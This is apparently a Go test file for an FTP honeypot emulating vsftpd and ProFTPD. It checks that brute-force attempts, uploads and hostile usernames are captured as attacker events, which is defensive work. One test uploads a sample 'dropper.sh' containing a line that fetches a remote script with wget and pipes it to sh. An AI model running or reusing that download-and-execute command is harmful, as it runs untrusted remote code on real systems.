package ftp

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"decnet/internal/event"
	"decnet/internal/service"
	"decnet/internal/service/servicetest"
	"decnet/internal/testenv"
)

const wait = 10 * time.Second

func start(t *testing.T, cfg service.Config) *servicetest.Harness {
	t.Helper()
	if cfg.ArtifactDir == "" {
		cfg.ArtifactDir = t.TempDir()
	}
	return servicetest.Start(t, "ftp", cfg)
}

func port(h *servicetest.Harness) string {
	_, p, _ := net.SplitHostPort(h.Addr(21))
	return p
}

func runTool(t *testing.T, name string, args ...string) (string, error) {
	t.Helper()
	return servicetest.Run(t, 60*time.Second, nil, name, args...)
}

// vsftpd's LIST line: mode, links, numeric uid/gid, size, "Mon DD HH:MM|YYYY", name.
var vsftpdLine = regexp.MustCompile(`(?m)^[-d]rw[-x]r[-w][-x]r[-w][-x] +\d+ \d+ +\d+ +\d+ [A-Z][a-z]{2} \d\d ( \d{4}|\d\d:\d\d) \S+\r?$`)

func TestCurlAnonymousListDownloadUpload(t *testing.T) {
	testenv.RequireTool(t, "curl")
	h := start(t, service.Config{Distro: "ubuntu22", Hostname: "web-prod-03"})
	base := "ftp://127.0.0.1:" + port(h)

	out, err := runTool(t, "curl", "-sS", "--max-time", "20", base+"/")
	if err != nil {
		t.Fatalf("curl list: %v\n%s", err, out)
	}
	for _, name := range []string{"README", "pub", "incoming"} {
		// curl turns the listing's CRLF into LF (ASCII mode).
		if !strings.Contains(out, " "+name+"\n") {
			t.Errorf("listing lacks %s:\n%q", name, out)
		}
	}
	if n := len(vsftpdLine.FindAllString(out, -1)); n != 3 {
		t.Errorf("%d of 3 lines in vsftpd's LIST format:\n%q", n, out)
	}

	dir := t.TempDir()
	got := filepath.Join(dir, "backup.tar.gz")
	if out, err := runTool(t, "curl", "-sS", "--max-time", "20", "-o", got, base+"/pub/backup.tar.gz"); err != nil {
		t.Fatalf("curl download: %v\n%s", err, out)
	}
	b, _ := os.ReadFile(got)
	zr, err := gzip.NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("backup.tar.gz is not gzip: %v", err)
	}
	tr := tar.NewReader(zr)
	var names []string
	for {
		hdr, err := tr.Next()
		if err != nil {
			break
		}
		names = append(names, hdr.Name)
	}
	if strings.Join(names, ",") != "backup/config.php,backup/users.csv" {
		t.Errorf("backup.tar.gz holds %v", names)
	}
	h.Wait(t, wait, "download", servicetest.Type(event.Request, "method=RETR", "path=/pub/backup.tar.gz", "outcome=served"))

	payload := []byte("#!/bin/sh\nwget http://198.51.100.7/x.sh | sh\n")
	src := filepath.Join(dir, "dropper.sh")
	os.WriteFile(src, payload, 0o644)
	if out, err := runTool(t, "curl", "-sS", "--max-time", "20", "-T", src, base+"/incoming/"); err != nil {
		t.Fatalf("curl upload: %v\n%s", err, out)
	}
	sum := sha256.Sum256(payload)
	e := h.Wait(t, wait, "upload", servicetest.Type(event.FileUpload, "filename=dropper.sh", "path=/incoming/dropper.sh", "stored=true"))
	if e.Fields["sha256"] != hex.EncodeToString(sum[:]) || e.Fields["size"] != strconv.Itoa(len(payload)) {
		t.Errorf("upload event %v, want sha256 %x size %d", e.Fields, sum, len(payload))
	}
	kept, err := os.ReadFile(filepath.Join(h.RT.Config.ArtifactDir, e.Fields["sha256"]))
	if err != nil || !bytes.Equal(kept, payload) {
		t.Errorf("artifact not kept byte for byte: %v", err)
	}
	auth := h.Wait(t, wait, "anonymous login", servicetest.Type(event.Auth, "username=anonymous", "method=anonymous", "outcome=success"))
	if auth.AttackerIP != "127.0.0.1" {
		t.Errorf("src_ip %q", auth.AttackerIP)
	}
}

func TestLftpProFTPD(t *testing.T) {
	testenv.RequireTool(t, "lftp")
	h := start(t, service.Config{Distro: "debian", Hostname: "files01", Persona: map[string]string{"server": "proftpd"}})
	dir := t.TempDir()
	src := filepath.Join(dir, "payload.bin")
	os.WriteFile(src, bytes.Repeat([]byte{0, 1, 2, 0xff}, 5000), 0o644)
	script := "set net:max-retries 1; set net:timeout 10; ls; cd pub; cat notes.txt; put " + src + " -o up.bin; cls -l; bye"
	out, err := runTool(t, "lftp", "-p", port(h), "-u", "admin,admin", "-e", script, "127.0.0.1")
	if err != nil {
		t.Fatalf("lftp: %v\n%s", err, out)
	}
	if !regexp.MustCompile(`(?m)^drwxr-xr-x   2 ftp      ftp          4096 [A-Z][a-z]{2} [ \d]\d ( \d{4}|\d\d:\d\d) pub$`).MatchString(out) {
		t.Errorf("lftp ls lacks ProFTPD's pub line:\n%s", out)
	}
	if !strings.Contains(out, "mysqldump -u backup") {
		t.Errorf("lftp cat notes.txt:\n%s", out)
	}
	if !strings.Contains(out, "up.bin") {
		t.Errorf("the upload is not listed afterwards:\n%s", out)
	}
	h.Wait(t, wait, "login", servicetest.Type(event.Auth, "username=admin", "password=admin", "outcome=success", "server=proftpd"))
	h.Wait(t, wait, "upload", servicetest.Type(event.FileUpload, "filename=up.bin", "size=20000", "path=/pub/up.bin"))
	h.Wait(t, wait, "command", servicetest.Type(event.Command, "command=CWD /pub", "username=admin"))
}

func TestHydraEveryPairCaptured(t *testing.T) {
	testenv.RequireTool(t, "hydra")
	old := failDelay
	failDelay = 50 * time.Millisecond
	t.Cleanup(func() { failDelay = old })
	h := start(t, service.Config{Distro: "debian"})
	dir := t.TempDir()
	pwList := []string{"123456", "letmein", "Pa]ss\"w0rd", "qwerty", "admin"}
	list := filepath.Join(dir, "pw.txt")
	os.WriteFile(list, []byte(strings.Join(pwList, "\n")+"\n"), 0o644)
	out, err := runTool(t, "hydra", "-l", "admin", "-P", list, "-t", "2", "-I", "-s", port(h), "ftp://127.0.0.1")
	if err != nil {
		t.Fatalf("hydra: %v\n%s", err, out)
	}
	if !strings.Contains(out, "login: admin   password: admin") {
		t.Errorf("hydra did not find admin:admin:\n%s", out)
	}
	for _, pw := range pwList {
		h.Wait(t, wait, "hydra pair "+pw, servicetest.Type(event.Auth, "username=admin", "password="+pw))
	}
}

func TestNmapNamesFTPServer(t *testing.T) {
	testenv.RequireTool(t, "nmap")
	for _, tc := range []struct {
		name string
		cfg  service.Config
		want *regexp.Regexp
	}{
		{"vsftpd", service.Config{Distro: "ubuntu22"}, regexp.MustCompile(`open\s+ftp\s+vsftpd 3\.0\.5`)},
		{"proftpd", service.Config{Distro: "debian", Persona: map[string]string{"server": "proftpd"}}, regexp.MustCompile(`open\s+ftp\s+ProFTPD 1\.3\.8`)},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			h := start(t, tc.cfg)
			out, err := runTool(t, "nmap", "-sV", "-Pn", "-n", "--version-intensity", "7", "-p", port(h), "127.0.0.1")
			if err != nil {
				t.Fatalf("nmap: %v\n%s", err, out)
			}
			if !tc.want.MatchString(out) {
				t.Errorf("nmap did not name the server %v:\n%s", tc.want, out)
			}
		})
	}
}

// dialog drives the control connection by hand and checks replies byte for byte.
type dialog struct {
	t  *testing.T
	c  net.Conn
	br *bufio.Reader
}

func dial(t *testing.T, h *servicetest.Harness) *dialog {
	c, err := net.Dial("tcp", h.Addr(21))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	c.SetDeadline(time.Now().Add(30 * time.Second))
	return &dialog{t: t, c: c, br: bufio.NewReader(c)}
}

// read returns one reply (all lines of a multi-line reply).
func (d *dialog) read() string {
	d.t.Helper()
	var b strings.Builder
	for {
		line, err := d.br.ReadString('\n')
		b.WriteString(line)
		if err != nil {
			d.t.Fatalf("reading reply: %v (so far %q)", err, b.String())
		}
		if len(line) >= 4 && line[3] == ' ' && b.Len() > 0 {
			first := b.String()[:3]
			if line[:3] == first {
				return b.String()
			}
		}
	}
}

func (d *dialog) send(line string) string {
	d.t.Helper()
	io.WriteString(d.c, line+"\r\n")
	return d.read()
}

func TestReplyTexts(t *testing.T) {
	for _, tc := range []struct {
		server string
		steps  [][2]string
	}{
		{"vsftpd", [][2]string{
			{"", "220 (vsFTPd 3.0.5)\r\n"},
			{"SYST", "215 UNIX Type: L8\r\n"},
			{"LIST", "530 Please login with USER and PASS.\r\n"},
			{"PASS x", "503 Login with USER first.\r\n"},
			{"USER admin", "331 Please specify the password.\r\n"},
			{"PASS nope", "530 Login incorrect.\r\n"},
			{"USER admin", "331 Please specify the password.\r\n"},
			{"PASS admin", "230 Login successful.\r\n"},
			{"PWD", "257 \"/\" is the current directory\r\n"},
			{"CWD /nonexistent", "550 Failed to change directory.\r\n"},
			{"CWD pub", "250 Directory successfully changed.\r\n"},
			{"SIZE notes.txt", "213 "},
			{"SIZE nothere", "550 Could not get file size.\r\n"},
			{"MDTM nothere", "550 Could not get file modification time.\r\n"},
			{"TYPE I", "200 Switching to Binary mode.\r\n"},
			{"TYPE X", "500 Unrecognised TYPE command.\r\n"},
			{"RETR notes.txt", "425 Use PORT or PASV first.\r\n"},
			{"PORT 127,0,0,1,4,1", "200 PORT command successful. Consider using PASV.\r\n"},
			{"LIST", "425 Failed to establish connection.\r\n"},
			{"PORT 1,2,3", "500 Illegal PORT command.\r\n"},
			{"DELE notes.txt", "550 Permission denied.\r\n"},
			{"STOR notes.txt", "550 Permission denied.\r\n"},
			{"XYZZY", "500 Unknown command.\r\n"},
			{"NOOP", "200 NOOP ok.\r\n"},
			{"FEAT", "211-Features:\r\n EPRT\r\n EPSV\r\n MDTM\r\n PASV\r\n REST STREAM\r\n SIZE\r\n TVFS\r\n211 End\r\n"},
			{"QUIT", "221 Goodbye.\r\n"},
		}},
		{"proftpd", [][2]string{
			{"", "220 ProFTPD 1.3.8 Server (Debian) [::ffff:127.0.0.1]\r\n"},
			{"XYZZY", "500 XYZZY not understood\r\n"},
			{"LIST", "530 Please login with USER and PASS\r\n"},
			{"USER ftp", "331 Anonymous login ok, send your complete email address as your password\r\n"},
			{"PASS me@example.org", "230 Anonymous access granted, restrictions apply\r\n"},
			{"CWD nothere", "550 nothere: No such file or directory\r\n"},
			{"TYPE A", "200 Type set to A\r\n"},
			{"MKD x", "550 x: Permission denied\r\n"},
			{"NOOP", "200 NOOP command successful\r\n"},
			{"QUIT", "221 Goodbye.\r\n"},
		}},
	} {
		t.Run(tc.server, func(t *testing.T) {
			old := failDelay
			failDelay = time.Millisecond
			t.Cleanup(func() { failDelay = old })
			h := start(t, service.Config{Distro: "debian", Persona: map[string]string{"server": tc.server, "version": map[string]string{"vsftpd": "3.0.5", "proftpd": "1.3.8"}[tc.server]}})
			d := dial(t, h)
			for _, st := range tc.steps {
				var got string
				if st[0] == "" {
					got = d.read()
				} else {
					got = d.send(st[0])
				}
				if !strings.HasPrefix(got, st[1]) {
					t.Errorf("%q: got %q, want %q", st[0], got, st[1])
				}
			}
		})
	}
}

func TestPassiveTransferAndHostileNames(t *testing.T) {
	h := start(t, service.Config{Distro: "ubuntu22", Hostname: "h"})
	d := dial(t, h)
	d.read()
	user := "ad]min\"\x1b[2J\xff"
	d.send("USER " + user)
	d.send("PASS pw]\"\\\x01")
	e := h.Wait(t, wait, "hostile auth", servicetest.Type(event.Auth, "outcome=failure"))
	if b, _ := base64.StdEncoding.DecodeString(e.Fields["username_b64"]); string(b) != user {
		t.Errorf("username bytes %q, want %q", b, user)
	}
	if b, _ := base64.StdEncoding.DecodeString(e.Fields["secret_b64"]); string(b) != "pw]\"\\\x01" {
		t.Errorf("password bytes %q", b)
	}
	d.send("USER anonymous")
	if got := d.send("PASS x"); got != "230 Login successful.\r\n" {
		t.Fatalf("anonymous login: %q", got)
	}
	pasv := d.send("PASV")
	m := regexp.MustCompile(`^227 Entering Passive Mode \(127,0,0,1,(\d+),(\d+)\)\.\r\n$`).FindStringSubmatch(pasv)
	if m == nil {
		t.Fatalf("PASV reply %q", pasv)
	}
	var p1, p2 int
	fmt.Sscan(m[1], &p1)
	fmt.Sscan(m[2], &p2)
	dc, err := net.Dial("tcp", net.JoinHostPort("127.0.0.1", strconv.Itoa(p1*256+p2)))
	if err != nil {
		t.Fatalf("data connection: %v", err)
	}
	io.WriteString(d.c, "RETR /README\r\n")
	if got := d.read(); !strings.HasPrefix(got, "150 Opening ASCII mode data connection for README (") {
		t.Errorf("RETR: %q", got)
	}
	body, _ := io.ReadAll(dc)
	if !strings.HasPrefix(string(body), "Welcome to the h FTP archive.") {
		t.Errorf("README = %q", body)
	}
	if got := d.read(); got != "226 Transfer complete.\r\n" {
		t.Errorf("after RETR: %q", got)
	}
	// A line far over the limit is cut, not buffered.
	if got := d.send("NOOP " + strings.Repeat("A", 100000)); got != "200 NOOP ok.\r\n" {
		t.Errorf("long line: %q", got)
	}
}

func TestMaxTriesCloses(t *testing.T) {
	old := failDelay
	failDelay = time.Millisecond
	t.Cleanup(func() { failDelay = old })
	h := start(t, service.Config{Distro: "debian", Persona: map[string]string{"max_tries": "2", "anonymous": "false"}})
	d := dial(t, h)
	d.read()
	d.send("USER anonymous")
	if got := d.send("PASS x"); got != "530 Login incorrect.\r\n" {
		t.Errorf("anonymous disabled: %q", got)
	}
	d.send("USER root")
	d.send("PASS y")
	if _, err := d.br.ReadByte(); err != io.EOF {
		t.Errorf("connection open after max_tries failures: %v", err)
	}
}
